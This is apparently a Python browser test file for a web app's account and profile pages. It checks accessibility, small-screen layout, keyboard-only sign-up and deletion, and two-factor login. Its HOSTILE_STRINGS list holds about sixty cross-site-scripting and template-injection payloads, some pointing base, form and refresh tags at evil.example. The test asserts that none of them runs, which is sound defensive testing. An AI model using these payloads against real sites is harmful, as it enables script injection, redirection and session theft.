"""Pages of who has an account, in Chromium: accessible, narrow, by keyboard alone and without JavaScript."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pyotp
import pytest
from tests.community.conftest import quick_hashes
from tests.community.world import PASSWORD, World
from tests.web.axe import violations
from tests.web.fake import HOSTILE, FakeDatabase
from tests.web.served import served

from symptomdb.model.person import Person, Profile, Role
from symptomdb.serve.web.app import create_app

__all__ = ["quick_hashes"]
pytestmark = pytest.mark.browser

MEMBER_PAGES = [
    "/account",
    "/account?done=profile",
    *(f"/account/{part}" for part in ("profile", "password", "email", "second-factor", "data", "notices")),
    "/accounts",
    "/accounts/{author}",
    "/people",
    "/people/{author}",
    "/sign-up",
    "/sign-in",
    "/sign-in/code",
    "/reset",
    "/reset/choose?token=x",
    "/confirm?token=x",
]
#: A page, and the button whose empty or wrong form shows an error on it.
WRONG_FORMS = [
    ("/sign-up", "Make the account"),
    ("/sign-in", "Sign in"),
    ("/reset", "Send the link"),
    ("/account/profile", "Save"),
    ("/account/password", "Change it"),
    ("/account/data", "Delete my account for good"),
    ("/accounts/{author}", "Note it as verified"),
]


_RUN = "window.ran=alert(1)"
#: Without control signs, which a profile refuses, and at most 100 signs long, as a name is.
HOSTILE_STRINGS = [
    *(f"<{tag} on{event}={_RUN}>" for tag, event in [
        ("svg", "load"), ("body", "load"), ("details open", "toggle"), ("input autofocus", "focus"),
        ("select autofocus", "focus"), ("textarea autofocus", "focus"), ("marquee", "start"), ("div", "mouseover"),
        ("video src=x", "error"), ("audio src=x", "error"), ("img src=x", "error"), ("object data=x", "error"),
        ("iframe", "load"), ("math", "click"), ("a autofocus tabindex=1", "focus"), ("style", "load"),
    ]),
    *(f"{before}<script>{_RUN}</script>" for before in [
        "", "'", '"', "'>", '">', "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</select>",
        "</option>", "</dd></dl>", "\\", "%3C", "&lt;", "</noscript>", "</template>", "<!--><!-->",
    ]),
    *(f"{opening}{scheme}:{_RUN}{closing}" for opening, closing in [("<a href='", "'>x</a>"), ("<iframe src='", "'>")]
      for scheme in ["javascript", "JaVaScRiPt", "java&#9;script", "data:text/html,<script>alert(1)</script>"]),
    f"' onfocus={_RUN} autofocus x='", f'" onfocus={_RUN} autofocus x="', f"` onfocus={_RUN} autofocus `",
    f"{{{{ {_RUN} }}}}", "{{ 7*7 }}{% raw %}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<<script>{_RUN}//<</script>", f"<img src=x onerror={_RUN}//",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x", "<link rel=stylesheet href=//evil.example/x.css>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip


class Place:
    """A running site with an administrator and an author, whose profile holds hostile text."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.boss = world.add("Boss", Role.ADMINISTRATOR)
        self.author: Person = world.add("Anna", Role.AUTHOR)
        profile = Profile(HOSTILE[:100], HOSTILE[:100], "Toytown", "0000-0002-1825-0097", HOSTILE)
        world.community.profiles.change(self.author, "Anna <script>alert(1)</script>", self._clean(profile))
        world.community.people.verify(self.author.id, "register " + "x" * 60, self.boss)
        self.address = ""
        self.sessions = {name: world.sign_in(name) for name in ("Boss", "Anna")}

    @staticmethod
    def _clean(profile: Profile) -> Profile:
        # What can't be shown is refused when it is typed; all else is taken as it is.
        return Profile(*[getattr(profile, name).replace("\u2028", " ") for name in Profile.__slots__])

    def url(self, path: str) -> str:
        """The whole address."""
        return self.address + path.format(author=self.author.id)


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory, quick_hashes: None) -> Iterator[Place]:  # noqa: ARG001
    """The running site."""
    world = World(f"sqlite:///{tmp_path_factory.mktemp('members') / 'site.sqlite3'}")
    made = Place(world)
    app = create_app(world.settings, FakeDatabase(), world.community)  # type: ignore[arg-type]
    with served(app, log_config=None) as made.address:
        yield made
    world.community.close()


@contextmanager
def _page(chromium: Any, place: Place, who: str = "", **options: Any) -> Iterator[Any]:
    context = chromium.new_context(viewport={"width": 320, "height": 640}, **options)
    if who:
        context.add_cookies([{"name": "session", "value": place.sessions[who], "url": place.address}])
    try:
        yield context.new_page()
    finally:
        context.close()


def _who(path: str) -> str:
    return "" if path.startswith(("/sign", "/reset", "/confirm")) else "Boss"


@pytest.mark.parametrize("path", MEMBER_PAGES)
def test_axe_finds_nothing_and_a_small_phone_shows_all(chromium: Any, place: Place, path: str) -> None:
    ran: list[str] = []
    with _page(chromium, place, _who(path), bypass_csp=True) as page:
        page.on("dialog", lambda dialog: ran.append(dialog.message))
        reply = page.goto(place.url(path))
        assert reply.status == 200
        assert page.evaluate("document.documentElement.scrollWidth") <= 320
        assert violations(page) == []
        page.emulate_media(color_scheme="dark")
        assert violations(page) == []
    assert ran == []


@pytest.mark.parametrize(("path", "button"), WRONG_FORMS)
def test_a_form_with_an_error_is_as_accessible(chromium: Any, place: Place, path: str, button: str) -> None:
    with _page(chromium, place, _who(path), bypass_csp=True) as page:
        page.goto(place.url(path))
        page.evaluate("document.querySelectorAll('form').forEach(form => form.noValidate = true)")
        if path == "/account/profile":
            page.get_by_label("ORCID").fill("0000-0002-1825-0098")
        with page.expect_navigation():
            page.get_by_role("button", name=button).click()
        page.get_by_role("alert").wait_for()
        assert page.title().startswith("Error: ")
        assert page.evaluate("document.documentElement.scrollWidth") <= 320
        assert violations(page) == []


def test_no_string_in_a_profile_runs_or_becomes_an_element(chromium: Any, place: Place) -> None:
    """Sixty ways to slip a script in, five at a time, through every field of a profile, on each page that shows it."""
    ran: list[str] = []
    pages = ("/people/{author}", "/people", "/accounts/{author}", "/accounts")
    with _page(chromium, place, "Boss", bypass_csp=True) as page:
        page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
        for start in range(0, len(HOSTILE_STRINGS), 4):
            name, *fields = (HOSTILE_STRINGS[start : start + 4] * 4)[:4]
            profile = Profile(fields[0], fields[1], fields[2], "", fields[0])
            place.world.community.profiles.change(place.author, name, profile)
            for path in pages:
                page.goto(place.url(path))
                assert (
                    page.locator("main :is(img, iframe, object, embed, video, audio, math, base, style)").count() == 0
                )
                assert page.evaluate("window.ran") is None
    assert ran == []


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no-scripts"])
def test_an_account_is_made_used_and_deleted_by_keyboard_alone(chromium: Any, place: Place, scripts: bool) -> None:
    name = f"kay{int(scripts)}"
    with _page(chromium, place, java_script_enabled=scripts) as page:
        page.goto(place.url("/sign-up"))
        _type_into(page, "Your name", "Kay")
        _next(page, f"{name}@example.org")
        _next(page, PASSWORD)
        page.keyboard.press("Enter")
        page.get_by_role("heading", name="Look into your mail").wait_for()
        page.goto(place.url(f"/confirm?token={place.world.token_in_last_letter()}"))
        page.get_by_role("button", name="Yes, this address is mine").focus()
        page.keyboard.press("Enter")
        page.get_by_role("heading", name="Your address is confirmed").wait_for()
        page.goto(place.url("/account"))
        _type_into(page, "E-mail address", f"{name}@example.org")
        _next(page, PASSWORD)
        page.keyboard.press("Enter")
        page.get_by_role("heading", name="Your account").wait_for()
        assert page.url == place.url("/account")
        page.goto(place.url("/account/data"))
        page.get_by_label("are emptied as well").focus()
        page.keyboard.press("Space")
        _next(page, PASSWORD)
        page.keyboard.press("Enter")
        page.get_by_role("heading", name="Your account is deleted").wait_for()
        page.goto(place.url("/account"))
        assert "/sign-in" in page.url


def test_a_second_factor_is_set_up_and_asked_for(chromium: Any, place: Place) -> None:
    place.world.add("Sam")
    with _page(chromium, place, java_script_enabled=False) as page:
        page.goto(place.url("/sign-in?next=/account/second-factor"))
        _type_into(page, "E-mail address", "sam@example.org")
        _next(page, PASSWORD)
        page.keyboard.press("Enter")
        with page.expect_navigation():
            page.get_by_role("button", name="Set it up").click()
        app = pyotp.TOTP(page.locator(".key").inner_text().replace(" ", ""))
        page.get_by_label("Six digits from the app").fill(app.at(place.world.clock()))
        with page.expect_navigation():
            page.get_by_role("button", name="Turn it on").click()
        assert page.locator(".codes-list li").count() == 10
        recovery = page.locator(".codes-list li").first.inner_text()
        with page.expect_navigation():
            page.get_by_role("link", name="I have kept them").click()
        with page.expect_navigation():
            page.get_by_role("button", name="Sign out").click()
        page.goto(place.url("/account"))
        _type_into(page, "E-mail address", "sam@example.org")
        _next(page, PASSWORD)
        page.keyboard.press("Enter")
        page.get_by_label("Six digits from your app, or a recovery code").fill(recovery)
        with page.expect_navigation():
            page.get_by_role("button", name="Go on").click()
        assert page.url == place.url("/account")


def _type_into(page: Any, label: str, text: str) -> None:
    page.get_by_label(label).focus()
    page.keyboard.type(text)


def _next(page: Any, text: str) -> None:
    page.keyboard.press("Tab")
    page.keyboard.type(text)
